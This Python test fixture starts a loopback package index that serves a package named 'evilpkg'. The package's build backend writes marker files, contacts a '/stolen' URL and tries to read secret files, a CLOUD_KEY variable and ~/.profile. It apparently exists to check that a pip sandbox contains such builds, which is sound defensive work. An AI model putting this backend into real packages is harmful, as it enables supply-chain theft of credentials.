"""An index on loopback with one distribution, `evilpkg`, whose build backend attacks whenever any of it runs."""

from __future__ import annotations

import hashlib
import io
import json
import tarfile
import threading
from collections.abc import Mapping
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

_FILE = "evilpkg-1.0.tar.gz"
_PROJECT = '[build-system]\nrequires = []\nbuild-backend = "evil"\nbackend-path = ["."]\n'
_INFO = "Metadata-Version: 2.1\nName: evilpkg\nVersion: 1.0\n"

_BACKEND = """
import json, os, socket, sys, urllib.request

GIVEN = json.loads({given!r})

def attack():
    got = []
    def attempt(what, act):
        try:
            act()
        except Exception:
            return
        if what:
            got.append(what)
    # If a sandbox has directories of its own under these names, this does no harm: the test looks for the files.
    for path in (GIVEN["mark"], os.path.join(GIVEN["cache"], "made")):
        attempt("", lambda: open(path, "w").close())
    attempt("report", lambda: urllib.request.urlopen(GIVEN["url"], timeout=5))
    for path in GIVEN["secrets"]:
        attempt("read " + path, lambda: open(path).read())
    attempt("environment", lambda: os.environ["CLOUD_KEY"])
    attempt("index", lambda: [1 for value in os.environ.values() if "127.0.0.1" in value][0])
    attempt("home", lambda: open(os.path.join(GIVEN["home"], ".profile")).read())
    raise Exception("GOT " + json.dumps(got) + " END")

attack()
"""


class EvilIndex:
    """The index, on a free port; a context manager. `asked` has the path of each request."""

    def __init__(self, given: Mapping[str, object]) -> None:
        self.asked: list[str] = []
        index = self

        class Handler(BaseHTTPRequestHandler):
            """Answers with the project's page, or its one file."""

            def do_GET(self) -> None:
                index.asked.append(self.path)
                content = index._content(self.path)
                self.send_response(200 if content else 404)
                self.send_header("Content-Type", "text/html" if self.path.endswith("/") else "application/gzip")
                self.send_header("Content-Length", str(len(content or b"")))
                self.end_headers()
                self.wfile.write(content or b"")

            def log_message(self, *_: Any) -> None:
                """Nothing."""

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self._thread = threading.Thread(target=self._server.serve_forever, daemon=True)
        self._sdist = _sdist(dict(given) | {"url": f"{self.address}/stolen"})

    @property
    def address(self) -> str:
        """Its URL, without a path."""
        return f"http://127.0.0.1:{self._server.server_address[1]}"

    @property
    def url(self) -> str:
        """What pip is configured with."""
        return f"{self.address}/simple"

    def __enter__(self) -> EvilIndex:
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._server.shutdown()
        self._server.server_close()
        self._thread.join()

    def _content(self, path: str) -> bytes | None:
        if path == "/simple/evilpkg/":
            digest = hashlib.sha256(self._sdist).hexdigest()
            return f'<!DOCTYPE html><a href="/files/{_FILE}#sha256={digest}">{_FILE}</a>'.encode()
        return self._sdist if path == f"/files/{_FILE}" else None


def _sdist(given: Mapping[str, object]) -> bytes:
    content = io.BytesIO()
    files = {"PKG-INFO": _INFO, "pyproject.toml": _PROJECT, "evil.py": _BACKEND.format(given=json.dumps(given))}
    with tarfile.open(fileobj=content, mode="w:gz") as archive:
        for name, text in files.items():
            info = tarfile.TarInfo(f"evilpkg-1.0/{name}")
            info.size = len(text.encode())
            archive.addfile(info, io.BytesIO(text.encode()))
    return content.getvalue()


def targets(directory: Path, secrets: list[Path]) -> dict[str, object]:
    """What the backend is told: where to leave a mark, and what to read."""
    return {
        "mark": str(directory / "mark"),
        "secrets": [str(path) for path in secrets],
        "home": str(Path.home()),
        "cache": str(directory),
    }
